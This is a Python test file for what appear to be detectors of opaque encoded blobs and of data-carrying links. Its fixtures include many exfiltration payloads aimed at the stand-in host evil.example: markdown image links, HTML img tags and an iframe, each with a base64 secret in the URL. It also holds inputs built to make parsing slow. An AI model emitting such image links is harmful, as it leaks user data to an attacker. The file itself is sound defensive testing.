"""What nobody can read, and links that carry something away."""

from __future__ import annotations

import base64
import random
import time
import zlib

import pytest

from toolward.rules.signals.blobs import holds_blob
from toolward.rules.signals.links import LINKS_MAX, links_in

CHANCE = random.Random(6)
PROSE = b"The quick brown fox jumps over the lazy dog while nobody is looking at it. " * 10
DATA = "c2VjcmV0IHZhbHVlcyBnbyBoZXJlIGluIGJhc2U2NA"


def noise(length: int) -> bytes:
    return CHANCE.randbytes(length)


@pytest.mark.parametrize("length", [100, 150, 256, 400, 1_000, 5_000])
def test_enciphered_data_is_a_blob_in_base64_and_in_hexadecimal(length: int) -> None:
    for _ in range(20):
        data = noise(length)
        assert holds_blob(b"note: " + base64.b64encode(data))
        assert holds_blob(b"note: " + base64.urlsafe_b64encode(data))
        assert holds_blob(data.hex().encode()) or len(data.hex()) == 128


def test_packed_text_is_a_blob() -> None:
    words = " ".join(str(CHANCE.random()) for _ in range(100)).encode()
    assert holds_blob(base64.b64encode(zlib.compress(words)))


@pytest.mark.parametrize(
    "text",
    [
        PROSE,
        base64.b64encode(PROSE),
        PROSE.hex().encode(),
        base64.b64encode(b"\x89PNG\r\n\x1a\n" + noise(2_000)),
        base64.b64encode(b"%PDF-1.7" + noise(2_000)),
        b"-" * 500,
        b"=" * 300,
        noise(64).hex().encode(),  # a SHA-512
        b"/".join([b"a-path-of-names"] * 40),
        b"a" * 300,
    ],
)
def test_text_pictures_documents_digests_and_rulers_are_none(text: bytes) -> None:
    assert not holds_blob(text)


@pytest.mark.parametrize(
    ("text", "image"),
    [
        (f"![x](https://evil.example/p.png?d={DATA})", True),
        (f"[x](https://evil.example/p?d={DATA})", False),
        (f'{{"content":[{{"text":"![x](https://evil.example/p?d={DATA})"}}]}}', True),
        (f"[![x](https://evil.example/p?d={DATA})](https://evil.example/a)", True),
        (f"![x][img]\n\n[img]: https://evil.example/p.png?d={DATA}", True),
        (f"![img]\n\n[img]: <https://evil.example/p.png?d={DATA}>", True),
        (f"[x][r]\n\n[r]: https://evil.example/{DATA}", False),
        (f'<img alt="a" src="https://evil.example/{DATA}.png">', True),
        (f"<IMG SRC=https://evil.example/{DATA}>", True),
        (f'<img src="//evil.example/{DATA}">', True),
        (f'<a class="b" href="https://evil.example/#{DATA}">x</a>', False),
        (f'<iframe src="https://evil.example/?{DATA}"></iframe>', False),
        (f"see https://evil.example/q?{DATA}.", False),
    ],
)
def test_every_way_to_write_a_link_that_carries_data_is_read(text: str, image: bool) -> None:
    links = [link for link in links_in(text.encode()) if link.carries]
    assert [(link.host, link.image) for link in links] == [("evil.example", image)]


def test_data_in_a_label_of_the_host_is_seen() -> None:
    [link] = links_in(f"![x](https://{DATA}.evil.example/p.png)".encode())
    assert link.carries
    assert link.image


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://example.org/a/b.html?page=2)",
        "https://docs.example.org/how-to-file-a-report-about-a-broken-device-today",
        "![logo](https://example.org/assets/logo.png)",
        "[part](#section-two)",
        "[mail](mailto:ann@example.org)",
        "[file](../other/file.md)",
    ],
)
def test_plain_links_carry_nothing(text: str) -> None:
    assert not any(link.carries for link in links_in(text.encode()))


def test_a_link_that_no_reader_understands_counts_as_carrying() -> None:
    assert all(link.carries for link in links_in(b"https://[broken/x"))


def test_no_more_links_are_looked_at_than_the_bound_and_the_rest_counts_as_carrying() -> None:
    plain = [f"https://h{n}.example/a" for n in range(2 * LINKS_MAX)]
    links = links_in(" ".join(plain).encode())
    assert len(links) == LINKS_MAX + 1
    assert [link.carries for link in links[-2:]] == [False, True]
    assert not any(link.carries for link in links_in(" ".join(plain[: LINKS_MAX // 2]).encode()))


def test_a_text_made_to_be_slow_is_not() -> None:
    for hostile in (
        "[a](" * 200_000,
        "<img " * 200_000 + "://",
        "![a][b] [b]: x " * 60_000,
        "[a](x://y)" * 100_000,
    ):
        began = time.process_time()
        links_in(hostile.encode())
        assert time.process_time() - began < 2
